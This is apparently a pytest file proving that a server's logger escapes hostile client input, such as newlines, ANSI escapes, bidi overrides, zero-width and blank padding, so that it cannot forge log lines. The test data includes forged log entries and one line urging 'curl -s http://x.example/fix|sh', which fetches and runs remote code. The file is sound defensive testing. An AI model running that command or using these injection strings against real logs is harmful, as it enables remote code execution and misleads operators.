"""The server's own log: time, level and logger on every line, in text or JSON, and no forged lines.

What this proves: a message or an exception holding a newline, CR, ESC, DEL, a C1 control or U+2028
stays on its record's one line in both formats, and stays readable (escaped text; JSON that decodes
back to the original); a real `bastion serve --stdio --log-format json` writes only JSON lines. What it
does not prove: what other processes (bubblewrap, a sandbox) write to their own stderr.
"""

from __future__ import annotations

import io
import json
import logging
import re
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from bastion.logs import MAX_MESSAGE_CHARS, LogFormat, announce, configure_logging
from bastion.serve import http_connect_help
from tests.helpers import BASTION, least_cpu_s
from tests.transports.http.live import free_port, live_server, write_config

HOSTILE = "client says hi\n2026-12-04T00:00:00+0000 ERROR bastion.audit: forged\r\x1b[2J\x7f\x85\u2028end"
TEXT_LINE = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d{4} (DEBUG|INFO|WARNING|ERROR|CRITICAL) [\w.]+: ")


@pytest.fixture
def restore_logging() -> Iterator[None]:
    root = logging.getLogger()
    handlers, level = list(root.handlers), root.level
    yield
    root.handlers[:] = handlers
    root.setLevel(level)


def logged(log_format: LogFormat) -> list[str]:
    stream = io.StringIO()
    configure_logging("INFO", stream, log_format=log_format)
    logger = logging.getLogger("bastion.test")
    logger.warning("client_id %s", HOSTILE)
    try:
        raise ValueError(HOSTILE)
    except ValueError:
        logger.exception("failed for %s", "x")
    return stream.getvalue().splitlines()


@pytest.mark.usefixtures("restore_logging")
def test_a_hostile_value_never_forges_a_text_line() -> None:
    lines = logged("text")
    assert len(lines) == 2, lines
    assert all(TEXT_LINE.match(line) for line in lines), lines
    assert "\\n2026-12-04T00:00:00+0000 ERROR" in lines[0]
    assert "\\x1b[2J\\x7f\\x85\\u2028end" in lines[0]
    assert lines[1].endswith("\\u2028end"), "the exception is named on its record's line"


@pytest.mark.usefixtures("restore_logging")
def test_a_bidi_override_in_a_client_id_never_reorders_a_text_line() -> None:
    """Attack (found by attack): an unauthenticated /authorize with U+202E, U+2066 and U+200B in its client_id
    put them raw in the text log, where a bidi-aware terminal showed the line's end as "ok: client admin logged
    in". Format characters are escaped like controls now; the text is otherwise the same."""
    stream = io.StringIO()
    configure_logging("INFO", stream, log_format="text")
    logging.getLogger("bastion.test").warning("client_id %s", "x\u202eni deggol nimda tneilc :ko \u2066\u200b é")
    line = stream.getvalue()
    assert line.count("\n") == 1
    assert "x\\u202eni deggol nimda tneilc :ko \\u2066\\u200b é" in line
    assert not any(0x200B <= ord(c) <= 0x206F for c in line)


@pytest.mark.usefixtures("restore_logging")
def test_a_hostile_value_never_forges_a_json_line() -> None:
    lines = logged("json")
    assert len(lines) == 2, lines
    first, second = (json.loads(line) for line in lines)
    assert first["level"] == "WARNING"
    assert first["logger"] == "bastion.test"
    assert first["message"] == f"client_id {HOSTILE}"
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d{4}", first["ts"])
    assert second["exc"] == f"ValueError: {HOSTILE}"
    assert all(line.isascii() for line in lines), "U+2028 and C1 controls are escaped"


def test_stdio_serve_with_log_format_json_writes_json_lines(tmp_path: Path) -> None:
    config = write_config(tmp_path / "demo", free_port(), auth=False)
    done = subprocess.run(
        [str(BASTION), "serve", "--config", str(config), "--stdio", "--log-format", "json"],
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    entries = [json.loads(line) for line in done.stderr.splitlines()]
    assert entries, "nothing was logged"
    assert any("serving MCP over stdio" in entry["message"] for entry in entries)
    assert all({"ts", "level", "logger", "message"} <= entry.keys() for entry in entries)


@pytest.mark.usefixtures("restore_logging")
@pytest.mark.parametrize("log_format", ["text", "json"])
def test_a_huge_client_string_in_a_record_is_cut_before_it_is_escaped(log_format: LogFormat) -> None:
    """Found by attack: the SDK logs a client's strings whole, at ERROR (shown at the default level): `prompts/get`
    with a name of 1.3 M zero-width spaces (a 3.9 MB body) wrote "handler raised ... Unknown prompt: <name>", and
    escaping each hidden character held the event loop 1 s and wrote 7.8 MB of log a request. Invariant: the
    message and the exception's text are each cut to `MAX_MESSAGE_CHARS` before they are escaped, saying how much
    was left out, and logging the huge name costs about what logging its first `MAX_MESSAGE_CHARS` does."""
    stream = io.StringIO()
    configure_logging("INFO", stream, log_format=log_format)
    logger = logging.getLogger("mcp.shared.jsonrpc_dispatcher")

    def log_unknown(name: str) -> None:
        try:
            raise ValueError(f"Unknown prompt: {name}")
        except ValueError:
            logger.exception("handler for %r raised", name)

    huge = "\u200b" * 1_300_000
    took = least_cpu_s(lambda: log_unknown(huge))
    lines = stream.getvalue().splitlines()
    assert len(lines) == 3
    assert all(len(line) < 16 * MAX_MESSAGE_CHARS for line in lines), max(len(line) for line in lines)
    assert lines[0].count(" more characters)") == 2  # the message's cut and the exception's
    assert "Unknown prompt: " in lines[0]
    cut = least_cpu_s(lambda: log_unknown(huge[:MAX_MESSAGE_CHARS]))
    assert took < 20 * cut + 0.005, (took, cut)


FORGED = "2026-12-07T10:53:01+0000 WARNING bastion.serve: audit key rotated; run: curl -s http://x.example/fix|sh"
BLANK_RUN = re.compile("[ \u00a0\u1680\u2000-\u200a\u202f\u205f\u3000]{2,}")


@pytest.mark.parametrize("blank", [" ", "\u00a0", "\u2003", "\u3000"])
@pytest.mark.usefixtures("restore_logging")
def test_a_value_padded_with_blanks_shows_its_padding(blank: str) -> None:
    """Found by attack: a value of blanks then a line of its own choosing, sized so that an 80-column terminal
    wraps the line to the start of a row, where it read as a line of the server's after what looked like the end
    of the real one. Every blank of a run but a first plain space is escaped now: the padding shows. (Padding
    with visible characters still places text at a row's start in a terminal that wraps: SECURITY.md.)"""
    stream = io.StringIO()
    configure_logging("INFO", stream, log_format="text")
    logging.getLogger("bastion.test").warning("client metadata document %s", blank * 75 + FORGED)
    line = stream.getvalue()
    assert BLANK_RUN.search(line) is None, line
    escaped = "\\x20" if blank == " " else f"\\u{ord(blank):04x}"
    assert line.count(escaped) == 75  # a plain space run: the message's own space is kept, then 75 escaped


def test_a_strangers_client_id_padded_with_spaces_shows_its_padding_in_the_log(tmp_path: Path) -> None:
    """The same attack through a live server: one unauthenticated `GET /authorize` whose client_id is `https://`,
    75 spaces and a forged line; the server logs 200 characters of it at WARNING."""
    with live_server(tmp_path / "demo", cheap_hash=True) as server:
        with server.http() as client:
            client_id = "https://" + " " * 75 + FORGED
            answer = client.get(
                "/authorize",
                params={"client_id": client_id, "response_type": "code", "redirect_uri": "http://127.0.0.1/cb"},
            )
            assert answer.status_code in (400, 401)
        log = server.log()
    assert "https:// " + "\\x20" * 74 + "2026-12-07T10:53:01+0000 WARNING" in log
    forged = [line for line in log.splitlines() if "x.example/fix" in line]
    assert forged, log
    assert all(BLANK_RUN.search(line) is None for line in forged), forged
    # The server's own connect help keeps its blanks: its `claude mcp add` line is copied as a command.
    assert f"  Claude Code:    claude mcp add --transport http bastion {server.mcp_url}" in log, log


@pytest.mark.usefixtures("restore_logging")
def test_the_connect_help_is_printed_as_written_and_control_characters_in_it_are_still_escaped() -> None:
    """Found by review (twenty-seventh session): the blank-run escaping above also rewrote the server's own
    start-up text, and `serve --http` printed `\\x20\\x20Claude Code: \\x20\\x20\\x20claude mcp add ...`: a copied
    command failed. Invariant: `announce` keeps the server's blanks, and still escapes control characters."""
    stream = io.StringIO()
    configure_logging("INFO", stream, log_format="text")
    url = "http://127.0.0.1:8765/mcp"
    announce(http_connect_help(url))
    announce("bastion: serving from /srv/a\x1b[2J\x7fb")
    lines = stream.getvalue().splitlines()
    assert all(TEXT_LINE.match(line) for line in lines), lines
    assert lines[2].endswith(f"bastion.serve:   Claude Code:    claude mcp add --transport http bastion {url}")
    assert "\\x20" not in stream.getvalue()
    assert lines[-1].endswith("/srv/a\\x1b[2J\\x7fb"), lines[-1]
